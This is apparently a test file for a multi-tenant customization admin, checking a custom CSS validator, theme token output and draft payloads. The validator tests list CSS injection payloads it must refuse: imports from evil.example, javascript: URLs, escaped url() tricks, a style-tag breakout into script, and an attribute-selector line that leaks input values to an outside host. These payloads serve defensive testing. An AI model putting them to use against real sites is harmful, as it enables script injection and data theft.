import * as v from 'valibot';
import { customizationSchema } from '../schemas/customization.schema';
import { fieldErrors } from '../test/parse';
import { customizationDraftFixture } from './customization-admin-testing';
import { changedPaths, customizationDraftSchema, themeCss, themeSchema } from './customization-admin.schemas';
import { customCssProblem } from './custom-css';
import { draftOfStored, servedCss } from './customization-draft';

describe("the tenant's custom CSS", () => {
  const UPLOAD = '/api/v2/pfp/files/0b3d91aa-1c2d-4e5f-8a9b-0c1d2e3f4a5b';

  it.each([
    ['a { color: red; }'],
    [':root { --color-primary: #0b3d91; }'],
    [`.logo { background: url(${UPLOAD}); }`],
    [`.logo { background: URL( "${UPLOAD}" ) }`],
    [`.hero { background-image: image-set("${UPLOAD}" 1x, url('${UPLOAD}') 2x) }`],
    [`@font-face { font-family: Brand; src: local("Brand"), url(${UPLOAD}) format("woff2") }`],
    ['.dot { background: url("data:image/png;base64,iVBORw0KGgo=") }'],
    ['@font-face { font-family: Brand; src: url(data:font/woff2;base64,d09GMgABAAAAAA) }'],
    ["@import url('data:text/css,a%7Bcolor:red%7D');"],
    ['a::after { content: "https://example.com is not loaded"; }'],
  ])("accepts plain CSS, the tenant's uploaded files and data: addresses: %s", (css) => {
    expect(customCssProblem(css)).toBeNull();
  });

  it.each([
    ['@import url(https://evil.example/x.css);', 'validator.error_css_import'],
    ['@import "//evil.example/x.css";', 'validator.error_css_import'],
    ['@IMPORT\turl( "http://evil.example/x.css" );', 'validator.error_css_import'],
    ['a { background: url(javascript:alert(1)) }', 'validator.error_css_javascript_url'],
    ['a { background: url( "JavaScript:alert(1)" ) }', 'validator.error_css_javascript_url'],
    ['a { background: url(\\6a avascript:alert(1)) }', 'validator.error_css_javascript_url'],
    ['a { width: expr/**/ession(alert(1)) }', 'validator.error_css_expression'],
    ['a { -moz-binding: url(/x.xml#x) }', 'validator.error_css_expression'],
    ['a {}</style><script>alert(1)</script>', 'validator.error_css_style_close'],
    ['a {}<\\/style>', 'validator.error_css_style_close'],
    ['a'.repeat(20_001), 'validator.error_css_too_large'],
    ["@import url('/fonts/brand.css');", 'validator.error_css_import'],
    ['@import"https://evil.example/x.css";', 'validator.error_css_import'],
    ['input[value^="a"] { background: url(https://evil.example/leak?a) }', 'validator.error_css_url'],
    ['a { background: url(//evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: url(/files/logo.png) }', 'validator.error_css_url'],
    [`a { background: url(https://evil.example${UPLOAD}) }`, 'validator.error_css_url'],
    [`a { background: url(${UPLOAD}?leak=a) }`, 'validator.error_css_url'],
    [`a { background: url(${UPLOAD}/../../../x) }`, 'validator.error_css_url'],
    ['@font-face { font-family: X; src: url(https://evil.example/x.woff2) }', 'validator.error_css_url'],
    ['@font-face { font-family: X; src: local(X), URL("https://evil.example/x.woff2") format("woff2") }', 'validator.error_css_url'],
    ['a { background: image-set("https://evil.example/x.png" 1x) }', 'validator.error_css_url'],
    ['a { background: -webkit-image-set(\'//evil.example/x.png\' 1x) }', 'validator.error_css_url'],
    ['a { background: \\75 rl(https://evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: \\55\\52\\4c(https://evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: url(https\\3a //evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: url(/*x*/https://evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: u\\rl(https://evil.example/x.png) }', 'validator.error_css_url'],
    ['a { background: url(  ) }', 'validator.error_css_url'],
  ])('refuses %s', (css, key) => {
    expect(customCssProblem(css)).toBe(key);
  });

  it('reports the refusal on the payload’s css field', () => {
    const payload = { ...customizationDraftFixture(), css: 'a{background:url(javascript:x)}' };
    expect(fieldErrors(customizationDraftSchema, payload)).toEqual({ css: { key: 'validator.error_css_javascript_url' } });
  });
});

describe('the theme', () => {
  it('adds no CSS when it is the kit’s own, and only the changed tokens otherwise', () => {
    expect(themeCss(v.parse(themeSchema, {}))).toBe('');
    const theme = v.parse(themeSchema, { colors: { primary: '#AA0000' }, radius: 0 });
    expect(themeCss(theme)).toBe(':root { --color-primary: #aa0000; --color-focus: #aa0000; --radius-sm: 0px; --radius-md: 0px; --radius-lg: 0px; }');
  });

  it('serves the tokens before the advanced CSS, so the advanced CSS wins', () => {
    const theme = v.parse(themeSchema, { colors: { primary: '#aa0000' } });
    expect(servedCss(theme, '.x { color: red; }')).toBe(':root { --color-primary: #aa0000; --color-focus: #aa0000; }\n.x { color: red; }');
    expect(servedCss(v.parse(themeSchema, {}), '')).toBeNull();
  });
});

describe('the editable payload', () => {
  it('reads a stored payload completed with the defaults, one disclaimer becoming both languages', () => {
    const draft = draftOfStored({ title: 'EXEU', css: ':root{}', texts: { investCustomDisclaimer: 'Read this' }, modules: { kyc: 'gone-provider' } });
    expect(draft.title).toBe('EXEU');
    expect(draft.css).toBe(':root{}');
    expect(draft.texts.investCustomDisclaimer).toEqual({ es: 'Read this', en: 'Read this' });
    expect(draft.modules.kyc).toBeNull();
    expect(draft.currency).toEqual({ symbol: '€', symbol_position: 'after', code: 'EUR', name: 'Euro' });
    // What is stored from a draft is a valid section-3 payload.
    expect(v.is(customizationSchema, draft)).toBe(true);
  });

  it('names the paths that changed between two payloads', () => {
    const before = customizationDraftFixture();
    const after = customizationDraftFixture();
    after.theme.colors.primary = '#aa0000';
    after.flows.onboarding = [...after.flows.onboarding].reverse();
    after.texts.declareInterestDescription.en = 'New';
    expect(changedPaths(before, after)).toEqual(['theme.colors.primary', 'flows.onboarding', 'texts.declareInterestDescription.en']);
  });
});
